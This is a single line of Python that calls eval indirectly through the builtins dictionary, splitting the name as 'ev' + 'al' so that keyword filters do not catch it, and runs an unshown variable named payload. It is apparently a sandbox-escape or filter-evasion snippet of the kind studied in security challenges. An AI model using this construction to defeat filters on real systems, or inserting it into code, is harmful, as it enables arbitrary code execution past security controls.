__builtins__.__dict__['ev' + 'al'](payload)
